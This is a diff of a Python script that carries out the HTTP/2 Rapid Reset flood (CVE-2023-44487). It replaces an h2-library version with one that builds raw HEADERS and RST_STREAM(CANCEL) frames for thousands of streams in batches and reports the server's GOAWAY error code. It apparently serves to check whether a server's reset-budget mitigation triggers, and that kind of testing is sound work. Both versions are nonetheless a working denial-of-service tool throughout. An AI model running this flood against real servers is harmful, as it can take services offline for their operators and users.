@@ -1,62 +1,26 @@
 #!/usr/bin/python3
-"""Rapid Reset (CVE-2023-44487) flood: opens streams and resets each at once.
+"""Rapid Reset (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL) at once, stream after stream.
 
-usage: rapid_reset.py HOST PORT [STREAMS]
-Prints the GOAWAY error code the server ended with (e.g. ENHANCE_YOUR_CALM),
-or NONE if the connection survived every stream. Exit 0 either way; the
-caller judges. Needs Debian's python3-h2 (run with /usr/bin/python3).
+usage: rapid_reset.py HOST PORT [STREAMS=5000]
+Expected: GOAWAY ENHANCE_YOUR_CALM once the reset budget (burst 1000) is spent.
 """
-import socket
-import sys
+import struct
 
-import h2.config
-import h2.connection
-import h2.events
+from h2raw import CANCEL_CODE, END_HEADERS, HEADERS, RST_STREAM, Conn, args, frame, request_block
 
-
-def main() -> None:
-    host, port = sys.argv[1], int(sys.argv[2])
-    streams = int(sys.argv[3]) if len(sys.argv) > 3 else 5000
-    sock = socket.create_connection((host, port), timeout=10)
-    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-    conn.initiate_connection()
-    sock.sendall(conn.data_to_send())
-    headers = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", host)]
-    result = "NONE"
-    sent = 0
-    try:
-        while sent < streams:
-            for _ in range(100):
-                sid = conn.get_next_available_stream_id()
-                conn.send_headers(sid, headers, end_stream=True)
-                conn.reset_stream(sid)
-                sent += 1
-            sock.sendall(conn.data_to_send())
-        # Read until the server's GOAWAY or close.
-        while True:
-            data = sock.recv(65536)
-            if not data:
-                break
-            for event in conn.receive_data(data):
-                if isinstance(event, h2.events.ConnectionTerminated):
-                    result = event.error_code.name
-                    raise StopIteration
-            sock.sendall(conn.data_to_send())
-    except StopIteration:
-        pass
-    except (ConnectionResetError, BrokenPipeError, socket.timeout):
-        # The server may close while we still send; what it said before is what counts.
-        try:
-            data = sock.recv(65536)
-            for event in conn.receive_data(data):
-                if isinstance(event, h2.events.ConnectionTerminated):
-                    result = event.error_code.name
-        except Exception:
-            pass
-    except h2.exceptions.ProtocolError:
-        pass
-    print(result)
-
-
-if __name__ == "__main__":
-    main()
+host, port, n = args("rapid_reset.py HOST PORT [STREAMS]")
+n = n or 5000
+c = Conn("rapid_reset", host, port)
+block = request_block(host)
+sid = 1
+while sid < 2 * n and not c.closed:
+    batch = b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL_CODE)) for s in range(sid, min(sid + 200, 2 * n), 2))
+    count = len(range(sid, min(sid + 200, 2 * n), 2))
+    if not c.send(batch, frames=2 * count):
+        break
+    sid += 200
+    c.poll(0)
+    if c.goaway_code is not None:
+        break
+c.wait_goaway()
+c.finish(streams=min(n, (sid - 1) // 2))
